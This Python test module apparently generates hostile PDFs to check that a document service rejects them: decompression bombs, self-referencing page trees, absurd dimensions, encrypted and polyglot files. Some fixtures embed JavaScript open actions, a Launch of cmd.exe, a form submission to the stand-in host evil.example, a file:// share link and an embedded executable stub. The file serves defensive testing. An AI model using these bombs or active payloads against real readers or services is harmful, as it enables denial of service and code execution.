"""PDFs: bombs, loops, lies, things that would act, disguises."""

import io
import zlib

import pikepdf

from tests import files
from tests.files import pdf, stream, swollen
from tests.hostile import LOCKED, READY, hostile

CATALOG = b"<</Type/Catalog/Pages 2 0 R>>"
ONE = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Resources<<>>%s>>"
WORDS = b"BT ET 0 0 m 100 100 l S"
MIB = 1024**2


def page_of(contents: bytes, *more: bytes, page: bytes = b"/Contents 4 0 R", root: bytes = b"") -> bytes:
    """A document of one page; object 4 is its contents, 5 and on are what more there is."""
    return pdf([CATALOG[:-2] + root + b">>", ONE, PAGE % page, contents, *more])


def box(numbers: bytes) -> bytes:
    return pdf([CATALOG, ONE, b"<</Type/Page/Parent 2 0 R/MediaBox[%s]>>" % numbers])


def flate(times: int, size: int) -> bytes:
    filters = b"/Filter[" + b"/FlateDecode" * times + b"]"
    content = swollen(b"0 0 1 1 re f\n" * 80_000, size // (80_000 * 13))
    for _ in range(times - 1):
        content = zlib.compress(content, 9)
    return page_of(stream(content, filters))


def hex_chain() -> bytes:
    content = zlib.compress(swollen(b"0 0 m\n" * 160_000, 160), 9).hex().encode() + b">"
    return page_of(stream(content, b"/Filter[/ASCIIHexDecode/FlateDecode/FlateDecode]"))


def run_length() -> bytes:
    runs = b"\x81\x20" * (300_000) + b"\x80"
    return page_of(stream(zlib.compress(runs, 9), b"/Filter[/FlateDecode/RunLengthDecode]"))


def object_stream_bomb() -> bytes:
    held = swollen(b" " * MIB, 300, head=b"6 0 ")
    return page_of(stream(WORDS), stream(held, b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode"))


def image(extra: bytes, content: bytes = b"\x00") -> bytes:
    """A page that shows one image XObject."""
    shown = b"/Contents 4 0 R"
    resources = b"/Resources<</XObject<</I 5 0 R>>>>"
    return pdf(
        [
            CATALOG, ONE, b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]%s%s>>" % (shown, resources),
            stream(b"q 612 0 0 792 0 0 cm /I Do Q"), stream(content, b"/Type/XObject/Subtype/Image" + extra),
        ]
    )  # fmt: skip


def pixels(width: int, height: int) -> bytes:
    """An image of one bit a pixel, all zeros, that says it is as large as that."""
    size = b"/Width %d/Height %d/BitsPerComponent 1/ColorSpace/DeviceGray/Filter/FlateDecode" % (width, height)
    return image(size, swollen(bytes(width * 10), height // 80))


GREY = b"/Width 800/Height 1000/BitsPerComponent 8/ColorSpace/DeviceGray"
HUGE_CCITT = b"/Width 60000/Height 60000/BitsPerComponent 1/ColorSpace/DeviceGray/Filter/CCITTFaxDecode"


def self_drawing() -> bytes:
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 612 792]/Resources<</XObject<</I 5 0 R>>>>"
    return image(form, b"/I Do /I Do")


def tree_loop() -> bytes:
    return pdf([CATALOG, b"<</Type/Pages/Kids[2 0 R]/Count 1>>"])


def deep_tree(depth: int) -> bytes:
    levels = [b"<</Type/Pages/Kids[%d 0 R]/Count 1>>" % number for number in range(3, depth + 3)]
    return pdf([CATALOG, *levels, b"<</Type/Page/MediaBox[0 0 612 792]>>"])


def deep_dictionary(depth: int) -> bytes:
    return page_of(stream(WORDS), b"<</A" * depth + b" 1" + b">>" * depth)


def linked_to_itself() -> bytes:
    whole = files.text_pdf("loop")
    start = whole.index(b"xref\n0")
    return whole.replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev %d" % start)


def with_root(extra: bytes, *more: bytes) -> bytes:
    return page_of(stream(WORDS), *more, root=extra)


def encrypted(revision: int, *, user: str = "secret", owner: str = "owner") -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(files.text_pdf("Assessment: gout"))) as document:
        metadata = revision >= 4
        document.save(
            out, encryption=pikepdf.Encryption(user=user, owner=owner, R=revision, aes=metadata, metadata=metadata)
        )
    return out.getvalue()


def broken_encryption() -> bytes:
    return files.text_pdf("x").replace(b"/Root 1 0 R", b"/Root 1 0 R/Encrypt<</Filter/Standard/V 9/R 99>>")


JS = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
LAUNCH = b"<</S/Launch/F(cmd.exe)>>"
WIDGET = b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 612 792]/A%s>>]/Contents 4 0 R"

FILES = {
    "flate 200 MiB, once": hostile(lambda: flate(1, 200 * MIB), "a.pdf", "too_costly", READY),
    "flate 200 MiB, twice": hostile(lambda: flate(2, 200 * MIB), "a.pdf", "too_costly"),
    "flate 400 MiB, three times": hostile(lambda: flate(3, 400 * MIB), "a.pdf", "too_costly"),
    "hex over flate over flate": hostile(hex_chain, "a.pdf", "too_costly", READY),
    "run length": hostile(run_length, "a.pdf", "too_costly", READY),
    "object stream of 300 MiB": hostile(object_stream_bomb, "a.pdf", "too_costly", "truncated", READY),
    "100,000 pages": hostile(files.many_pages, "a.pdf", "too_many_pages"),
    "2,001 pages": hostile(lambda: files.many_pages(2001), "a.pdf", "too_many_pages"),
    "no pages": hostile(files.no_pages, "a.pdf", "no_pages"),
    "page of 90,000 points": hostile(files.huge_page, "a.pdf", "too_large"),
    "page 14,401 wide and 1 high": hostile(lambda: box(b"0 0 14401 1"), "a.pdf", "too_large"),
    "page of no size": hostile(lambda: box(b"0 0 0 0"), "a.pdf", READY, "too_large"),
    "page of negative size": hostile(lambda: box(b"0 0 -612 -792"), "a.pdf", READY, "too_large"),
    "page as thin as a hair": hostile(lambda: box(b"0 0 0.001 14000"), "a.pdf", READY, "too_large"),
    "page without a box": hostile(lambda: pdf([CATALOG, ONE, b"<</Type/Page/Parent 2 0 R>>"]), "a.pdf", READY),
    "page whose box is text": hostile(lambda: box(b"(a)(b)(c)(d)"), "a.pdf", READY, "truncated"),
    "page of 1e38 points": hostile(lambda: box(b"0 0 1e38 1e38"), "a.pdf", READY, "too_large", "truncated"),
    "pages that are their own child": hostile(tree_loop, "a.pdf", "no_pages", "truncated"),
    "tree of 5,000 levels": hostile(lambda: deep_tree(5000), "a.pdf", "truncated", "too_costly", "no_pages", READY),
    "dictionaries 100,000 deep": hostile(lambda: deep_dictionary(100_000), "a.pdf", "truncated", "too_costly", READY),
    "table that follows itself": hostile(linked_to_itself, "a.pdf", READY, "truncated"),
    "table of 2,000,000,000 objects": hostile(
        lambda: files.text_pdf("x").replace(b"/Size 6", b"/Size 2000000000"), "a.pdf", READY, "truncated", "too_costly"
    ),
    "image of 900 megapixels": hostile(lambda: pixels(30_000, 30_000), "a.pdf", "too_costly", READY),
    "image of 65,535 x 65,535 in no bytes": hostile(
        lambda: image(b"/Width 65535/Height 65535/BitsPerComponent 16/ColorSpace/DeviceRGB"), "a.pdf", READY
    ),
    "image of -1 x -1": hostile(
        lambda: image(b"/Width -1/Height -1/BitsPerComponent 8/ColorSpace/DeviceGray"), "a.pdf", READY
    ),
    "fax image of nonsense": hostile(lambda: image(HUGE_CCITT, b"\x00" * 5000), "a.pdf", READY, "too_costly"),
    "JBIG2 of nonsense": hostile(lambda: image(GREY + b"/Filter/JBIG2Decode", bytes(range(256)) * 9), "a.pdf", READY),
    "JPX of nonsense": hostile(lambda: image(GREY + b"/Filter/JPXDecode", bytes(range(256)) * 9), "a.pdf", READY),
    "DCT of nonsense": hostile(lambda: image(GREY + b"/Filter/DCTDecode", b"\xff\xd8" + bytes(900)), "a.pdf", READY),
    "LZW of nonsense": hostile(lambda: image(GREY + b"/Filter/LZWDecode", bytes(range(256)) * 9), "a.pdf", READY),
    "unknown filter": hostile(lambda: image(GREY + b"/Filter/EvilDecode", b"abc"), "a.pdf", READY),
    "form that draws itself twice": hostile(self_drawing, "a.pdf", READY, "too_costly"),
    "a million saved states": hostile(lambda: page_of(stream(b"q " * 1_000_000)), "a.pdf", READY, "too_costly"),
    "two million rectangles": hostile(
        lambda: page_of(stream(swollen(b"0 0 612 792 re f\n" * 50_000, 40), b"/Filter/FlateDecode")),
        "a.pdf", READY, "too_costly",
    ),
    "arrays 200,000 deep in the contents": hostile(
        lambda: page_of(stream(b"[" * 200_000 + b"]" * 200_000 + b" TJ")), "a.pdf", READY, "too_costly"
    ),
    "inline image without an end": hostile(
        lambda: page_of(stream(b"BI /W 9999 /H 9999 /BPC 8 /CS /G ID " + b"x" * 500)), "a.pdf", READY
    ),
    "name of a megabyte": hostile(lambda: page_of(stream(WORDS), b"/" + b"N" * MIB), "a.pdf", READY, "truncated"),
    "string of 20 megabytes": hostile(lambda: page_of(stream(WORDS), b"(" + b"s" * 20 * MIB + b")"), "a.pdf", READY),
    "script at opening": hostile(lambda: with_root(b"/OpenAction" + JS), "a.pdf", READY),
    "script with a spelled-out name": hostile(
        lambda: with_root(b"/OpenAction<</S/J#61vaScript/JS(x)>>"), "a.pdf", READY
    ),
    "script in the names": hostile(
        lambda: with_root(b"/Names<</JavaScript<</Names[(a) 5 0 R]>>>>", JS), "a.pdf", READY
    ),
    "script at the page": hostile(
        lambda: page_of(stream(WORDS), page=b"/AA<</O" + JS + b">>/Contents 4 0 R"), "a.pdf", READY
    ),
    "order to start a program": hostile(lambda: with_root(b"/OpenAction" + LAUNCH), "a.pdf", READY),
    "link that starts a program": hostile(lambda: page_of(stream(WORDS), page=WIDGET % LAUNCH), "a.pdf", READY),
    "link to a share": hostile(
        lambda: page_of(stream(WORDS), page=WIDGET % b"<</S/URI/URI(file://///evil/share)>>"), "a.pdf", READY
    ),
    "form that sends itself": hostile(
        lambda: page_of(stream(WORDS), page=WIDGET % b"<</S/SubmitForm/F(http://evil.example/)>>"), "a.pdf", READY
    ),
    "attached program": hostile(
        lambda: with_root(
            b"/Names<</EmbeddedFiles<</Names[(a.exe) 5 0 R]>>>>",
            b"<</Type/Filespec/F(a.exe)/EF<</F 6 0 R>>>>", stream(b"MZ", b"/Type/EmbeddedFile"),
        ),
        "a.pdf", READY,
    ),
    "XFA form": hostile(
        lambda: with_root(b"/AcroForm<</Fields[]/XFA 5 0 R>>", stream(b"<xdp:xdp/>")), "a.pdf", READY
    ),
    "password, 40 bits": hostile(lambda: encrypted(2), "a.pdf", LOCKED),
    "password, 128 bits": hostile(lambda: encrypted(3), "a.pdf", LOCKED),
    "password, AES 128": hostile(lambda: encrypted(4), "a.pdf", LOCKED),
    "password, AES 256": hostile(lambda: encrypted(6), "a.pdf", LOCKED),
    "only an owner's password": hostile(lambda: encrypted(6, user=""), "a.pdf", READY),
    "password that no word fits": hostile(files.encrypted_pdf, "a.pdf", LOCKED),
    "encryption of no known kind": hostile(broken_encryption, "a.pdf", LOCKED, "truncated"),
    "header alone": hostile(lambda: b"%PDF-1.7\n", "a.pdf", "truncated"),
    "header and end alone": hostile(lambda: b"%PDF-1.7\n%%EOF\n", "a.pdf", "truncated"),
    "version 99.99": hostile(lambda: files.text_pdf("x").replace(b"%PDF-1.7", b"%PDF-99.9"), "a.pdf", READY),
    "a kilobyte of junk before": hostile(lambda: b"j" * 1000 + files.text_pdf("x"), "a.pdf", READY),
    "ten kilobytes of junk behind": hostile(lambda: files.text_pdf("x") + bytes(10_000), "a.pdf", READY),
    "table that leads nowhere": hostile(
        lambda: files.text_pdf("x").replace(b"startxref\n", b"startxref\n9"), "a.pdf", READY
    ),
    "table cut off, pages whole": hostile(
        lambda: files.text_pdf("x")[: files.text_pdf("x").rindex(b"trailer")], "a.pdf", READY, "truncated"
    ),
    "PDF that is HTML too": hostile(
        lambda: files.text_pdf("x") + b"<html><script>alert(1)</script></html>", "a.html", READY
    ),
    "HTML that is PDF too": hostile(lambda: b"<html><!--" + files.text_pdf("x") + b"-->", "a.pdf", "name_differs"),
    "JPEG with a PDF behind": hostile(lambda: files.jpeg() + files.text_pdf("x"), "a.pdf", READY),
    "PNG with a PDF behind": hostile(lambda: files.png() + files.text_pdf("x"), "a.pdf", READY),
}  # fmt: skip
